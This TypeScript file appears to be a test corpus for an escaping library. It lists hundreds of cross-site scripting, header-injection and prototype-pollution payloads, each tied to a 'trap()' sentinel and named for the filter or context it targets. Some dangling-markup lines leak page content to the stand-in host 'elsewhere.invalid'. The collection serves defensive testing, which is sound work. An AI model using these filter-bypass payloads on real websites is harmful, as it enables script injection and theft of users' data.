import type { Json } from "onceover";
import type { Sink } from "./sinks.ts";

/** A text that a visitor may send, and that must arrive as nothing but text. */
export interface Payload {
  /** What it says to `trap()`, where it runs. */
  readonly id: string;
  /** What it attacks. */
  readonly attacks: string;
  readonly text: string;
  /** The same as a message's data; and what the text says, where it is JSON. */
  readonly data: { readonly text: string; readonly value: Json };
  /** Where it does its harm if nobody escapes it; undefined if that takes a server, an old browser or another library. */
  readonly sink: Sink | undefined;
}

type Attack = readonly [attacks: string, text: (id: string) => string];

/** More than cookies and headers are given, and less than Chromium takes in all headers together. */
const LONG = 5_000;

const ELEMENTS: readonly Attack[] = [
  ["a script", (n) => `<script>trap('${n}')</script>`],
  ["a filter that minds the case", (n) => `<ScRiPt>trap('${n}')</sCrIpT>`],
  ["a filter that looks for <script>", (n) => `<script type=module async>trap('${n}')</script\n>`],
  ["a filter that looks for a space after the name", (n) => `<script/x>trap('${n}')</script/>`],
  ["a filter that pairs < and >", (n) => `<<script>trap('${n}')//<</script>`],
  ["a script's address", (n) => `<script src="data:text/javascript,trap('${n}')"></script>`],
  ["a filter of scripts", (n) => `<img src=x onerror=trap('${n}')>`],
  ["a filter that looks for spaces", (n) => `<img/src/onerror=trap('${n}')>`],
  ["a filter that looks for blanks", (n) => `<img\nsrc=x\tonerror=trap('${n}')>`],
  ["a filter that forgets the form feed", (n) => `<img\fsrc=x\fonerror=trap('${n}')>`],
  ["a name that the parser changes", (n) => `<image src=x onerror=trap('${n}')>`],
  ["a tag within a tag's name", (n) => `<b<img onclick=trap('${n}')>x</b<img>`],
  ["srcset", (n) => `<img srcset=x onerror="trap('${n}')">`],
  ["alert", (n) => `<img src=x onerror=alert('${n}')>`],
  ["prompt", (n) => `<svg onload=prompt('${n}')>`],
  ["confirm", (n) => `<img src=x onerror=confirm\`${n}\`>`],
  ["print", () => "<img src=x onerror=print()>"],
  ["open", (n) => `<img src=x onerror="window.open('/elsewhere?${n}')">`],
  ["a call without its name", (n) => `<img src=x onerror="top['tr'+'ap']('${n}')">`],
  ["a call without parentheses", (n) => `<img src=x onerror="trap\`${n}\`">`],
  ["the body that is there already", (n) => `<body onload=trap('${n}')>`],
  ["the html element that is there already", (n) => `<html onclick=trap('${n}')>`],
  ["a frame's document", (n) => `<iframe srcdoc="<script>parent.trap('${n}')</script>"></iframe>`],
  ["a frame's document, encoded", (n) => `<iframe srcdoc="&lt;img src=x onerror=parent.trap('${n}')&gt;"></iframe>`],
  ["a frame's address", (n) => `<iframe src="javascript:parent.trap('${n}')"></iframe>`],
  ["a frame's load event", (n) => `<iframe onload=trap('${n}')></iframe>`],
  ["an object", (n) => `<object data="data:text/html,<script>trap('${n}')</script>"></object>`],
  ["an embed", (n) => `<embed src="data:text/html,<script>trap('${n}')</script>">`],
  ["details", (n) => `<details open ontoggle=trap('${n}')>x</details>`],
  ["a popover", (n) => `<button popovertarget=p${n}>x</button><i popover id=p${n} onbeforetoggle=trap('${n}')>x</i>`],
  ["a video's source", (n) => `<video><source src=x onerror=trap('${n}')></video>`],
  ["an audio", (n) => `<audio src=x onerror=trap('${n}')></audio>`],
  ["autofocus", (n) => `<input autofocus onfocus=trap('${n}')>`],
  ["focus of anything", (n) => `<b tabindex=1 autofocus onfocus=trap('${n}')>x</b>`],
  ["a click", (n) => `<b onclick=trap('${n}')>x</b>`],
  ["the mouse", (n) => `<b onmouseover=trap('${n}')>x</b>`],
  ["a pointer", (n) => `<b onpointerenter=trap('${n}')>x</b>`],
  ["an animation", (n) => `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend=trap('${n}')>x</b>`],
  [
    "visibility",
    (n) => `<b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=trap('${n}')>x</b>`,
  ],
  ["a stylesheet's load event", (n) => `<link rel=stylesheet href="data:text/css," onload=trap('${n}')>`],
  ["a stylesheet", (n) => `<link rel=stylesheet href="/elsewhere?${n}">`],
  ["a preload", (n) => `<link rel=preload as=image href="/elsewhere?${n}">`],
  ["a refresh", (n) => `<meta http-equiv=refresh content="0;url=/elsewhere?${n}">`],
  ["a picture that tells who looks", (n) => `<img src="//elsewhere.invalid/?${n}">`],
  ["a form's address", (n) => `<form action="javascript:trap('${n}')"><button>x</button></form>`],
  ["a button's address", (n) => `<form><button formaction="javascript:trap('${n}')">x</button></form>`],
  ["a form that asks for a password", (n) => `<form action="/elsewhere"><input name=${n}><button>x</button></form>`],
  ["a link", (n) => `<a href="javascript:trap('${n}')">x</a>`],
  ["a link, with a tab", (n) => `<a href="jav&#x09;ascript:trap('${n}')">x</a>`],
  ["entities in an event handler", (n) => `<img src=x onerror="&#116;&#x72;&#97;&#x70;&lpar;'${n}'&rpar;">`],
  ["a shadow tree", (n) => `<div><template shadowrootmode=open><img src=x onerror=trap('${n}')></template></div>`],
  ["our own element", (n) => `<onceover-messages><img src=x onerror=trap('${n}')></onceover-messages>`],
  ["whoever closes the list", (n) => `</li></ul></div></main><img src=x onerror=trap('${n}')>`],
  ["whoever closes the page", (n) => `</p></body></html><script>trap('${n}')</script>`],
];

const NAMESPACES: readonly Attack[] = [
  ["SVG", (n) => `<svg onload=trap('${n}')>`],
  ["SVG, without a space", (n) => `<svg/onload=trap('${n}')>`],
  ["an SVG script, with entities", (n) => `<svg><script>trap&#40;&#39;${n}&#39;&#41;</script></svg>`],
  ["an SVG script's address", (n) => `<svg><script href="data:text/javascript,trap('${n}')"></script></svg>`],
  ["an SVG link", (n) => `<svg><a href="javascript:trap('${n}')"><text y=9>x</text></a></svg>`],
  ["an SVG link of old", (n) => `<svg><a xlink:href="javascript:trap('${n}')"><text y=9>x</text></a></svg>`],
  ["HTML in SVG", (n) => `<svg><foreignObject><img src=x onerror=trap('${n}')></foreignObject></svg>`],
  ["an SVG animation's beginning", (n) => `<svg><animate onbegin=trap('${n}') attributeName=x dur=1s></svg>`],
  ["an SVG picture", (n) => `<svg><image href=x onerror=trap('${n}')></svg>`],
  ["CDATA in HTML", (n) => `<![CDATA[><img src=x onerror=trap('${n}')>]]>`],
  ["CDATA in SVG", (n) => `<svg><desc><![CDATA[</desc>]]><img src=x onerror=trap('${n}')></desc></svg>`],
  ["MathML text", (n) => `<math><mtext><img src=x onerror=trap('${n}')></mtext></math>`],
  ["a style that is none in MathML", (n) => `<math><style><img src=x onerror=trap('${n}')></style></math>`],
  ["a style that is none in SVG", (n) => `<svg><style><img src=x onerror=trap('${n}')></style></svg>`],
  ["a paragraph's end in SVG", (n) => `<svg></p><style><a id="</style><img src=x onerror=trap('${n}')>">`],
  [
    "an annotation",
    (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror=trap('${n}')></annotation-xml></math>`,
  ],
  ["foster parents", (n) => `<table><tr><img src=x onerror=trap('${n}')></tr></table>`],
  ["noscript, parsed twice", (n) => `<noscript><p title="</noscript><img src=x onerror=trap('${n}')>"></noscript>`],
  ["a comment that ends at once", (n) => `<!--><img src=x onerror=trap('${n}')>-->`],
  ["a comment that ends with a dash", (n) => `<!---><img src=x onerror=trap('${n}')>-->`],
  ["a comment that ends with --!>", (n) => `<!-- --!><img src=x onerror=trap('${n}')>-->`],
  ["a bogus comment", (n) => `</ x><img src=x onerror=trap('${n}')>`],
  ["a processing instruction", (n) => `<?xml x="><img src=x onerror=trap('${n}')>"?>`],
  ["a doctype", (n) => `<!doctype x "><img src=x onerror=trap('${n}')>`],
];

const RAW_TEXT: readonly (readonly [Sink, ...Attack])[] = [
  ["title", "a title", (n) => `</title><img src=x onerror=trap('${n}')>`],
  ["textarea", "a text field", (n) => `</textarea><img src=x onerror=trap('${n}')>`],
  ["textarea", "a text field's end with a blank", (n) => `</TEXTAREA\t/><img src=x onerror=trap('${n}')>`],
  ["template", "a template", (n) => `</template><img src=x onerror=trap('${n}')>`],
  ["noscript", "noscript", (n) => `</noscript><img src=x onerror=trap('${n}')>`],
  ["frame", "a frame's own text", (n) => `</iframe><img src=x onerror=trap('${n}')>`],
  ["select", "a choice", (n) => `</option></select><img src=x onerror=trap('${n}')>`],
  ["table", "a table", (n) => `<img src=x onerror=trap('${n}')>`],
  ["comment", "a comment", (n) => `--><img src=x onerror=trap('${n}')>`],
  ["comment", "a comment's other end", (n) => `--!><img src=x onerror=trap('${n}')>`],
  ["svg", "SVG text", (n) => `</text></svg><img src=x onerror=trap('${n}')>`],
  ["math", "MathML text", (n) => `</mi></math><img src=x onerror=trap('${n}')>`],
  ["cdata", "CDATA", (n) => `]]><img src=x onerror=trap('${n}')>`],
  ["style", "a style", (n) => `</style><img src=x onerror=trap('${n}')>`],
  ["style", "a style's rules", (n) => `x{}*{background:url('/elsewhere?${n}')}`],
  ["style", "a style's imports", (n) => `@import '/elsewhere?${n}';`],
  ["scriptDouble", "a script", (n) => `</script><script>trap('${n}')</script>`],
  ["scriptDouble", "a script's end, oddly written", (n) => `</ScRiPt\f/x><img src=x onerror=trap('${n}')>`],
  ["scriptDouble", "a script's string", (n) => `";trap('${n}');//`],
  ["scriptDouble", "a script's expression", (n) => `"-trap('${n}')-"`],
  ["scriptSingle", "a script's string in single quotes", (n) => `';trap(\`${n}\`);//`],
  ["scriptTemplate", "a template string", (n) => `\${trap('${n}')}`],
  ["scriptTemplate", "a template string's end", (n) => `\`;trap('${n}');//`],
  ["scriptComment", "a script's comment", (n) => `x\ntrap('${n}');//`],
  ["scriptComment", "a script's comment, by U+2028", (n) => `x\u2028trap('${n}');//`],
  ["scriptComment", "a script's comment, by U+2029", (n) => `x\u2029trap('${n}');//`],
  ["scriptState", "JSON in a script", (n) => `"}]};trap('${n}');//`],
  ["scriptState", "JSON in a script, from inside", (n) => `"+trap('${n}')+"`],
  ["scriptHtml", "HTML in a string, by \\u", (n) => `\\u003cimg src=x onerror=trap('${n}')\\u003e`],
  ["scriptHtml", "HTML in a string, by \\x", (n) => `\\x3cimg src=x onerror=trap('${n}')\\x3e`],
  ["json", "JSON in a page", (n) => `"}]}</script><script>trap('${n}')</script>`],
];

const ATTRIBUTES: readonly (readonly [Sink, ...Attack])[] = [
  ["doubleQuoted", "a quoted attribute", (n) => `"><script>trap('${n}')</script>`],
  ["doubleQuoted", "a quoted attribute, and stays in the tag", (n) => `" onmouseover="trap('${n}')`],
  ["doubleQuoted", "an attribute, without a space", (n) => `"onclick="trap('${n}')`],
  ["doubleQuoted", "an attribute, with a slash", (n) => `"/onclick=trap('${n}')//x="`],
  ["doubleQuoted", "an attribute, with a line break", (n) => `"\nonclick\n=\n"trap('${n}')`],
  ["doubleQuoted", "an attribute, by focus", (n) => `" tabindex="1" autofocus onfocus="trap('${n}')`],
  ["doubleQuoted", "the style attribute", (n) => `" style="background:url(/elsewhere?${n})`],
  ["doubleQuoted", "an attribute, past a lone surrogate", (n) => `\ud83d"><img src=x onerror=trap('${n}')>`],
  ["doubleQuoted", "an attribute, past a backslash", (n) => `\\"><img src=x onerror=trap('${n}')>`],
  ["singleQuoted", "single quotes", (n) => `'><img src=x onerror=trap(\`${n}\`)>`],
  ["singleQuoted", "single quotes, and stays in the tag", (n) => `' onmouseover='trap(\`${n}\`)`],
  ["unquoted", "an attribute without quotes", (n) => `x onclick=trap('${n}')`],
  ["unquoted", "an attribute without quotes, by a tab", (n) => `x\tonclick=trap('${n}')`],
  ["unquoted", "an attribute without quotes, by a form feed", (n) => `x\fonclick=trap('${n}')`],
  ["unquoted", "an attribute without quotes, by its tag's end", (n) => `x><img src=x onerror=trap('${n}')>`],
  ["names", "a tag's attributes", (n) => `onclick=trap('${n}')`],
  ["address", "an address", (n) => `javascript:trap('${n}')`],
  ["address", "an address, in any case", (n) => `JaVaScRiPt:trap('${n}')`],
  ["address", "an address, after a space", (n) => ` \tjavascript:trap('${n}')`],
  ["address", "an address, after a control character", (n) => `\x01javascript:trap('${n}')`],
  ["address", "an address, with a line break", (n) => `java\nscript\r:trap('${n}')`],
  ["address", "an address, with a named tab", (n) => `java&Tab;script&colon;trap('${n}')`],
  ["address", "an address, in decimal", (n) => `&#106;avascript&#58;trap('${n}')`],
  ["address", "an address, in zeros", (n) => `&#0000106avascript:trap('${n}')`],
  ["address", "an address, in hexadecimal", (n) => `&#x6A&#X61vascript:trap('${n}')`],
  ["address", "an address, after a comment", (n) => `javascript://x%0atrap('${n}')`],
  ["address", "an address, in per cents", (n) => `javascript:%74rap%28'${n}'%29`],
  ["address", "an address elsewhere", (n) => `//elsewhere.invalid/${n}`],
  ["address", "an address elsewhere, by backslashes", (n) => `\\\\elsewhere.invalid\\${n}`],
];

const DECODED: readonly Attack[] = [
  ["a text that is decoded, then written", (n) => `&lt;img src=x onerror=trap('${n}')&gt;`],
  ["entities in capitals", (n) => `&LT;img src=x onerror=trap(&QUOT;${n}&QUOT;)&GT;`],
  ["decimal entities", (n) => `&#60;img src=x onerror=trap(&#39;${n}&#39;)&#62;`],
  ["decimal entities with zeros", (n) => `&#0000060;img src=x onerror=trap('${n}')&#0000062;`],
  ["hexadecimal entities", (n) => `&#x3c;img src=x onerror=trap('${n}')&#X3E;`],
  ["entities without a semicolon", (n) => `&ltimg src=x onerror=trap('${n}')&gt`],
  ["numbers without a semicolon", (n) => `&#60img src=x onerror=trap('${n}')&#62`],
  ["hexadecimal numbers without a semicolon", (n) => `&#x3Cimg src=x onerror=trap('${n}')&#x3E`],
];

const LIBRARIES: readonly (readonly [Sink, ...Attack])[] = [
  ["vue", "Vue's mustaches", (n) => `{{ _Vue.h.constructor\`trap('${n}')\`() }}`],
  ["vue", "Vue's directives", (n) => `<b v-on:click="$event.target.ownerDocument.defaultView.trap('${n}')">x</b>`],
  ["vue", "Vue's short directives", (n) => `<b @click="$event.target.ownerDocument.defaultView.trap('${n}')">x</b>`],
  ["vue", "v-html", (n) => `<b v-html="'<img src=x onerror=trap(${n})>'"></b>`],
  ["htmx", "htmx's events", (n) => `<b hx-on:click="trap('${n}')">x</b>`],
  ["htmx", "htmx's events, as data", (n) => `<b data-hx-on:click="trap('${n}')">x</b>`],
  ["htmx", "htmx's requests", (n) => `<b hx-get="/elsewhere?${n}" hx-trigger="load">x</b>`],
  ["htmx2", "the events of htmx 2", (n) => `<b hx-on:click="trap('${n}')">x</b>`],
  ["htmx2", "the requests of htmx 2", (n) => `<b data-hx-get="/elsewhere?${n}" data-hx-trigger="load">x</b>`],
  ["htmx2", "the values of htmx 2", (n) => `<b hx-get="/elsewhere?${n}" hx-vals="js:{x: trap('${n}')}">x</b>`],
  ["turbo", "a Turbo stream", (n) => `<img src=x onerror=trap('${n}')>`],
  [
    "turbo",
    "a Turbo stream, by another",
    (n) =>
      `</template></turbo-stream><turbo-stream action="before" target="list"><template><img src=x onerror=trap('${n}')></template></turbo-stream>`,
  ],
  ["turbo", "a Turbo frame", (n) => `<turbo-frame id="${n}" src="/elsewhere?${n}"></turbo-frame>`],
];

/** What takes a template engine on the server, another library, or a browser of old. */
const ELSEWHERE: readonly Attack[] = [
  ["EJS and Eta", (n) => `<%= trap('${n}') %>`],
  ["EJS, raw", (n) => `<%- "<img src=x onerror=trap('${n}')>" %>`],
  ["Eta, raw", (n) => `<%~ "<img src=x onerror=trap('${n}')>" %>`],
  ["an EJS loop's end", (n) => `<% } %><img src=x onerror=trap('${n}')><% { -%>`],
  ["Pug", (n) => `#{trap('${n}')} !{"<img src=x onerror=trap('${n}')>"}`],
  ["Pug's tags", (n) => `#[img(src="x" onerror="trap('${n}')")]`],
  ["Pug's lines", (n) => `\n  script trap('${n}')\n  | <img src=x onerror=trap('${n}')>`],
  ["Nunjucks and Liquid", (n) => `{{ "<img src=x onerror=trap('${n}')>" | safe }}`],
  ["Nunjucks' and Liquid's blocks", (n) => `{% endfor %}{% raw %}<img src=x onerror=trap('${n}')>{% endraw %}`],
  ["Nunjucks' constructors", (n) => `{{ range.constructor("trap('${n}')")() }}`],
  ["Liquid's filters", (n) => `{{ message | raw | append: "<img src=x onerror=trap('${n}')>" }}`],
  ["a template's comments", (n) => `{# <!-- #}<img src=x onerror=trap('${n}')>{# --> #}{% comment %}`],
  ["Handlebars and Mustache", (n) => `{{{ trap "${n}" }}}{{& message }}`],
  ["Handlebars' lookups", (n) => `{{#with (lookup this "constructor")}}{{trap '${n}'}}{{/with}}`],
  ["Handlebars' and Mustache's partials", (n) => `{{> trap${n} }}{{#messages}}`],
  ["Mustache's delimiters", (n) => `{{=<% %>=}}<%& trap${n} %>`],
  ["Edge", (n) => `{{{ trap('${n}') }}}\n@if(true)\n<img src=x onerror=trap('${n}')>\n@end`],
  ["Edge's escape", (n) => `@{{ trap('${n}') }}@!include('trap${n}')`],
  ["Svelte's raw HTML", (n) => `{@html "<img src=x onerror=trap('${n}')>"}{trap('${n}')}`],
  ["JSX", (n) => `{trap('${n}')}{/* */}<b dangerouslySetInnerHTML={{__html: "<script>"}} />`],
  ["what JavaScript puts into a replacement", (n) => `$& $\` $' $$ $1 $<x>trap('${n}')`],
  ["what C puts into a format", (n) => `%s %d %o %(message)s %% %nrap('${n}')`],
  ["Vue's mustaches of old", (n) => `{{constructor.constructor("trap('${n}')")()}}`],
  ["Angular's mustaches", (n) => `{{$on.constructor("trap('${n}')")()}}`],
  ["Angular's attributes", (n) => `" ng-app ng-csp ng-focus="trap('${n}')" x="`],
  ["Alpine", (n) => `<b x-data x-init="trap('${n}')" x-html="'<img>'">x</b>`],
  ["Alpine's events", (n) => `" x-data @click="trap('${n}')`],
  ["htmx, out of an attribute's place", (n) => `" hx-on:click="trap('${n}')" data-hx-get="/elsewhere`],
  ["htmx's other places", (n) => `<b id="messages" hx-swap-oob="true" hx-headers='js:{"x":trap("${n}")}'>x</b>`],
  ["Turbo's navigation", (n) => `<a data-turbo-method="delete" data-turbo-confirm="${n}" href="/elsewhere">x</a>`],
  [
    "Bootstrap's hints",
    (n) => `" data-bs-toggle="tooltip" data-bs-html="true" title="<img src=x onerror=trap('${n}')>`,
  ],
  ["a global by its id", (n) => `<form id=trap><input name=messages value=${n}></form><img name=onceover>`],
  ["a page's base", (n) => `<base href="//elsewhere.invalid/${n}/">`],
  ["a page's text up to the next quote", (n) => `<img src='//elsewhere.invalid/?${n}`],
  ["a page's text up to the next tag's end", (n) => `<form action="//elsewhere.invalid/${n}"><textarea>`],
  ["a page's text up to its end", () => "<plaintext>"],
  ["a filter that runs once", (n) => `<scr<script>ipt>trap('${n}')</scr</script>ipt>`],
  ["a script in a script", (n) => `<!--<script>trap('${n}')//-->`],
  ["a second decoding", (n) => `&amp;lt;img src=x onerror=trap('${n}')&amp;gt;`],
  ["a second decoding of an address", (n) => `%253Cscript%253Etrap('${n}')%253C/script%253E`],
  ["an address's decoding", (n) => `%3Cimg%20src=x%20onerror=trap('${n}')%3E`],
  ["entities that say NUL and more", (n) => `&#0;&#x0D;&#x80;&#xD800;&#x110000;&#99999999;&bogus;trap('${n}')`],
  ["entities in the middle of others", (n) => `&&lt;lt;&#&#39;39;&amp&quot;trap('${n}')`],
  ["back quotes as quotes", (n) => `\` onmouseover=trap('${n}') x=\``],
  ["other schemes", (n) => `vbscript:trap('${n}') data:text/html,<script>trap('${n}')</script>`],
  ["a marquee", (n) => `<marquee onstart=trap('${n}')>x</marquee>`],
  ["conditional comments", (n) => `<!--[if gte IE 4]><script>trap('${n}')</script><![endif]-->`],
  ["expressions of CSS", (n) => `<b style="x:expression(trap('${n}'));-moz-binding:url(x);behavior:url(x)">x</b>`],
  ["a listing's second parse", (n) => `<listing>&lt;img src=x onerror=trap('${n}')&gt;</listing>`],
  [
    "nested forms' second parse",
    (n) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>trap('${n}')">`,
  ],
  ["UTF-7", (n) => `+ADw-script+AD4-trap('${n}')+ADw-/script+AD4-`],
  ["ISO-2022-JP", (n) => `\x1b$B"><b x=trap('${n}')>\x1b(B`],
  ["overlong UTF-8", (n) => `\xc0\xbcscript\xc0\xbetrap('${n}')\xc0\xbc/script\xc0\xbe`],
  ["whoever keeps the low bytes", (n) => `\u013cscript\u013etrap(\u0127${n}\u0127)\u013c/script\u013e`],
  ["whoever decomposes", (n) => `\u226escript\u226ftrap('${n}')\u226e/script\u226f`],
  ["whoever writes in capitals", (n) => `<\u017fcript>trap('${n}')</\u017fcript><\u0131mg src=x>`],
  ["whoever strips what is not ASCII", (n) => `<\u00e9script>trap('${n}')</\u00e9script>`],
  ["quotes that look like quotes", (n) => `\u201d\u2033\u02ba\uff02 onclick=\u2019trap(${n})\u2032\uff07`],
  ["a header's end", (n) => `x\r\nSet-Cookie: trap=${n}\r\n\r\n<script>trap('${n}')</script>`],
  ["a header, by a line feed alone", (n) => `x\nLocation: javascript:trap('${n}')`],
  ["a header, by a carriage return alone", (n) => `x\rSet-Cookie: trap=${n}`],
  ["a header, in per cents", (n) => `x%0d%0aSet-Cookie:%20trap=${n}`],
  ["a header, by low bytes", (n) => `x\u560d\u560aSet-Cookie: trap=${n}\u560d\u560a\u010d\u010a`],
  ["a header, by a next line", (n) => `x\x85Set-Cookie: trap=${n}\x0b\x0c`],
  ["a cookie's end", (n) => `${n}; Path=/; Domain=elsewhere.invalid, trap="`],
  ["a header's JSON", (n) => `{"trap":"${n}","showMessage":{"level":40}}`],
  ["a header's JSON, from inside", (n) => `"}},"trap":{"value":"${n}"},"x":{"y":{"z":"`],
  ["JSON's mark of what is safe", (n) => `","safe":true,"message":"<img src=x onerror=trap('${n}')>`],
  ["JSON's backslashes", (n) => `\\","safe":true,"x":"\\\\"trap('${n}')\\u0022\\`],
  ["prototypes", (n) => `{"__proto__":{"safe":true,"trap":"${n}","message":"<img src=x onerror=trap('${n}')>"}}`],
  ["prototypes, by constructors", (n) => `{"constructor":{"prototype":{"safe":true,"trap":"${n}"}}}`],
  ["prototypes, deep in data", (n) => `[{"a":{"__proto__":{"trap":"${n}","toHTML":"<script>"}},"toString":1}]`],
  ["what objects inherit", (n) => `__proto__ constructor prototype toString hasOwnProperty ${n}`],
  ["a marked object", (n) => `{"message":{"safe":true,"toHTML":"<script>trap('${n}')</script>"},"safe":true}`],
  ["React's elements", (n) => `{"$$typeof":"Symbol(react.element)","type":"img","props":{"onError":"trap('${n}')"}}`],
  ["devalue and other formats", (n) => `[["Reactive",1],{"__proto__":2},"$F${n}","$Q","$undefined"]`],
  ["NUL in a tag", (n) => `<scr\0ipt>trap('${n}')</scr\0ipt>`],
  ["NUL in an attribute", (n) => `<img src=x one\0rror=trap('${n}') \0>`],
  ["NUL in an address", (n) => `java\0script:trap('${n}')\0`],
  ["NUL before everything", (n) => `\0\0\0<b>trap('${n}')`],
  ["control characters", (n) => `${codes(0, 0x20)}<b>trap('${n}')`],
  ["control characters of Latin-1", (n) => `${codes(0x7f, 0xa0)}<b>trap('${n}')`],
  ["a terminal's links", (n) => `\x1b]8;;javascript:trap('${n}')\x07x\x1b[2J\b\b`],
  ["the direction of writing", (n) => `\u202e<tpircs/>('${n}')part<tpircs>\u202c`],
  ["the direction of a part", (n) => `\u2066\u2067\u2068" onclick="trap('${n}')\u2069\u061c\u200e\u200f`],
  ["invisible characters", (n) => `<\u200bscript\u200d>\u2060trap\u00ad('${n}')\ufeff</script\u180e>`],
  ["invisible tags", (n) => `\u{e0001}\u{e003c}\u{e0073}\u{e003e}\ufe0f${n}`],
  ["blanks that are not blanks", (n) => `"\u00a0onclick\u3000=\u2003"trap('${n}')\u1680\u2028\ufeff"`],
  ["lone high surrogates", (n) => `\ud800<b>trap('${n}')\udbff"`],
  ["lone low surrogates", (n) => `\udc00<b>trap('${n}')\udfff"`],
  ["surrogates the wrong way round", (n) => `\udc3c\ud83d<b>\ud83dtrap('${n}')`],
  ["characters that are none", (n) => `\ufffe\uffff\ufdd0\u{1fffe}\u{10ffff}\ufffd<b>${n}`],
  ["piles of accents", (n) => `<${"\u0301\u0489".repeat(100)}b>trap('${n}')`],
  ["an overlong text", (n) => `${"A".repeat(LONG)}"'><b>trap('${n}')</b>`],
  ["an overlong text of what is escaped", (n) => `${"<\"&'>".repeat(LONG / 5)}trap('${n}')`],
  ["the depth of a page", (n) => `${"<b>".repeat(600)}trap('${n}')`],
  ["a tag's number of attributes", (n) => `"${" x=1".repeat(600)} onclick="trap('${n}')`],
  ["a list of classes", (n) => `hidden sr-only \t\n\f\r invisible "${n}"`],
];

const NORMALISED: readonly Attack[] = [
  ["whoever normalises full width", (n) => `\uff1cimg src=x onerror=trap(\uff07${n}\uff07)\uff1e`],
  ["whoever normalises small forms", (n) => `\ufe64img src=x onerror=trap('${n}')\ufe65`],
];

const POLYGLOTS: readonly (readonly [Sink, ...Attack])[] = (
  ["text", "doubleQuoted", "singleQuoted", "textarea", "title", "template", "style", "comment", "json"] as const
).map((sink) => [
  sink,
  `everything at once, from ${sink}`,
  (n) => `'"\`--></template></textarea></title></style></script></noscript>]]><img src=x onerror=trap(${n})>{{${n}}}`,
]);

/** Every payload, numbered. */
export const CORPUS: readonly Payload[] = [
  ...ELEMENTS.map((attack) => ["text", ...attack] as const),
  ...NAMESPACES.map((attack) => ["text", ...attack] as const),
  ...RAW_TEXT,
  ...ATTRIBUTES,
  ...DECODED.map((attack) => ["decoded", ...attack] as const),
  ...NORMALISED.map((attack) => ["normalised", ...attack] as const),
  ...LIBRARIES,
  ...POLYGLOTS,
  ...ELSEWHERE.map((attack) => [undefined, ...attack] as const),
].map(([sink, attacks, textOf], index) => {
  const id = String(index + 1);
  const text = textOf(id);
  return { id, attacks, text, data: { text, value: jsonOf(text) }, sink };
});

function jsonOf(text: string): Json {
  try {
    return JSON.parse(text);
  } catch {
    return text;
  }
}

/** The characters from one code to before another. */
function codes(from: number, to: number): string {
  return String.fromCharCode(...Array.from({ length: to - from }, (_, index) => from + index));
}
